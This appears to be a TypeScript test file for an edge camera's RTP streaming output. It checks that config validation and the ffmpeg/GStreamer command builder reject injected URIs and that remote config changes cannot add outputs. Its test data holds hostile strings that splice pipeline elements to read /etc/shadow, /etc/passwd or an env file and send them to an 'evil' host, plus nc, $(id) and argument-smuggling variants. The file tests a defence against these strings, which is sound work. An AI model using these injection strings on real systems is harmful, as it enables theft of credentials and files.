// RTP output URIs as an attacker or a careless operator writes them: the schema refuses every
// injection string, and - independently - the encoder command builder cannot be made to emit an
// extra argv element or pipeline element, whatever target it is handed.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { checkRemotePatch } from '../../src/config/policy.js';
import { ConfigSchema } from '../../src/config/schema.js';
import { rtpEncoderCommand } from '../../src/output/encoder-commands.js';
import { parseRtpUri, type RtpTarget, sdpFor } from '../../src/output/rtp-uri.js';

const INJECTIONS = [
  'rtp://127.0.0.1:5004 ! filesrc location=/etc/edgeseg/edgeseg.env ! tcpclientsink host=evil port=1',
  'rtp://127.0.0.1:5004%20!%20filesrc%20location=/etc/shadow',
  'rtp://127.0.0.1" ! filesrc location=/etc/passwd ! udpsink host="evil:5004',
  "rtp://127.0.0.1:5004' -f null -",
  'rtp://127.0.0.1:5004 -i /etc/passwd',
  'rtp://127.0.0.1:5004\n-i',
  'rtp://127.0.0.1:5004;touch /tmp/p',
  'rtp://127.0.0.1:5004|nc evil 1',
  'rtp://127.0.0.1:5004$(id)',
  'rtp://127.0.0.1:5004?localaddr=10.0.0.9',
  'rtp://127.0.0.1:5004?ttl=1&rtcpport=9',
  'rtp://127.0.0.1:5004?ttl=1&ttl=2',
  'rtp://127.0.0.1:5004?ttl=0',
  'rtp://127.0.0.1:5004?ttl=256',
  'rtp://127.0.0.1:5004?pkt_size=99999999999',
  'rtp://127.0.0.1:5004?ttl=1&',
  'rtp://127.0.0.1:5004?ttl',
  'rtp://127.0.0.1:5004/stream',
  'rtp://127.0.0.1:5004#x',
  'rtp://user:secret@127.0.0.1:5004',
  'rtp://127.0.0.1',
  'rtp://127.0.0.1:0',
  'rtp://127.0.0.1:65536',
  'rtp://127.0.0.1:65535', // RTCP would need 65536
  'rtp://127.0.0.1:05004',
  'rtp://127.0.0.1:-5004',
  'rtp://1.2.3:5004',
  'rtp://256.1.1.1:5004',
  'rtp://010.0.0.1:5004',
  'rtp://-evil.example:5004',
  'rtp://evil-.example:5004',
  'rtp://a..example:5004',
  'rtp://еvil.example:5004',
  'rtp://[::1%25lo]:5004',
  'rtp://[127.0.0.1]:5004',
  'rtp://::1:5004',
  'rtp:127.0.0.1:5004',
  'RTP://127.0.0.1:5004',
  'udp://127.0.0.1:5004',
  'file:///etc/passwd',
  'tcp://evil.example:5004',
  ` rtp://127.0.0.1:5004`,
  `rtp://${'a'.repeat(64)}.example:5004`,
  `rtp://${'a.'.repeat(150)}example:5004`,
];

const VALID: Array<[string, RtpTarget]> = [
  ['rtp://127.0.0.1:5004', { host: '127.0.0.1', port: 5004 }],
  ['rtp://[::1]:5004', { host: '::1', port: 5004 }],
  ['rtp://viewer:1', { host: 'viewer', port: 1 }],
  ['rtp://cam-viewer.local:65534', { host: 'cam-viewer.local', port: 65534 }],
  ['rtp://239.0.0.1:5004?ttl=4&pkt_size=1200', { host: '239.0.0.1', port: 5004, ttl: 4, pktSize: 1200 }],
];

const minimalConfig = (uri: string) => ({
  device_id: 'cam',
  source: 'test://synthetic-road',
  model: 'models/x',
  mqtt: { url: 'mqtt://127.0.0.1:1883' },
  outputs: [{ uri }],
});

test('valid RTP URIs parse into host, port and the allowed options', () => {
  for (const [uri, target] of VALID) {
    assert.deepEqual(parseRtpUri(uri), { ok: true, target }, uri);
    assert.equal(ConfigSchema.safeParse(minimalConfig(uri)).success, true, uri);
  }
});

test('every injection string is refused by the schema, naming the key and not echoing the value', () => {
  for (const uri of INJECTIONS) {
    const parsed = parseRtpUri(uri);
    assert.equal(parsed.ok, false, uri);
    const result = ConfigSchema.safeParse(minimalConfig(uri));
    assert.equal(result.success, false, uri);
    const issue = result.error!.issues[0]!;
    assert.deepEqual(issue.path, ['outputs', 0, 'uri'], uri);
    assert.match(issue.message, /expected rtp:\/\/HOST:PORT/, uri);
    assert.doesNotMatch(issue.message, /secret|passwd|shadow|evil/, uri);
  }
});

test('the command builder keeps each user value in one element, for both encoders', () => {
  for (const backend of ['ffmpeg', 'gstreamer'] as const) {
    const build = (target: RtpTarget) =>
      rtpEncoderCommand(target, backend, { width: 640, height: 360 }, { fps: 5, bitrateKbps: 800 }).args;
    const baseline = build({ host: 'viewer.example', port: 5004 });
    for (const [, target] of VALID.slice(0, 4)) {
      const args = build(target);
      const sameHost = build({ ...target, host: 'viewer.example' });
      assert.equal(args.length, baseline.length, `${backend} ${target.host}`);
      // Exactly one element differs, and it carries the host.
      const differing = args.filter((arg, i) => arg !== sameHost[i]);
      assert.ok(differing.length <= 1 && differing.every((arg) => arg.includes(target.host)));
    }
    if (backend === 'gstreamer') {
      assert.ok(baseline.includes('host="viewer.example"'));
      assert.ok(baseline.includes('port=5004'));
    } else assert.equal(baseline.at(-1), 'rtp://viewer.example:5004');
  }
  const withOptions = rtpEncoderCommand(
    VALID[4]![1],
    'ffmpeg',
    { width: 64, height: 32 },
    { fps: 5, bitrateKbps: 800 },
  );
  assert.equal(withOptions.args.at(-1), 'rtp://239.0.0.1:5004?ttl=4&pkt_size=1200');
});

test('handed a hostile target directly (no schema on the way), the builder refuses it', () => {
  const hostile: RtpTarget[] = [
    { host: '127.0.0.1" ! filesrc location=/etc/passwd ! udpsink host="evil', port: 5004 },
    { host: '127.0.0.1 ! fakesink', port: 5004 },
    { host: 'evil.example -f null', port: 5004 },
    { host: '127.0.0.1:5004?localaddr=1.2.3.4#', port: 5004 },
    { host: '', port: 5004 },
    { host: '127.0.0.1', port: 0 },
    { host: '127.0.0.1', port: 5004.5 },
    { host: '127.0.0.1', port: 5004, ttl: 9999 },
    { host: '127.0.0.1', port: 5004, pktSize: -1 },
  ];
  for (const target of hostile)
    for (const backend of ['ffmpeg', 'gstreamer'] as const)
      assert.throws(
        () => rtpEncoderCommand(target, backend, { width: 64, height: 32 }, { fps: 5, bitrateKbps: 800 }),
        /RTP target refused/,
        `${backend} ${JSON.stringify(target)}`,
      );
});

test('the SDP a receiver needs names the host, port and H.264 payload', () => {
  const sdp = sdpFor({ host: '::1', port: 5006 });
  assert.match(sdp, /^c=IN IP6 ::1$/m);
  assert.match(sdp, /^m=video 5006 RTP\/AVP 96$/m);
  assert.match(sdp, /^a=rtpmap:96 H264\/90000$/m);
});

test('config/set may not add an RTP output unless the local file unlocks outputs; publish options it may', () => {
  const policy = { unlock: [] as string[], configFile: '/etc/edgeseg/front.yaml' };
  assert.throws(
    () => checkRemotePatch({ outputs: [{ uri: 'rtp://198.51.100.7:5004' }] }, policy),
    /outputs: locked for remote changes: it decides where the device streams its pictures$/,
  );
  checkRemotePatch({ publish: { filter_mode: 'linear', ignore_classes: ['sky'] } }, policy);
  checkRemotePatch({ outputs: [] }, { ...policy, unlock: ['outputs'] });
});
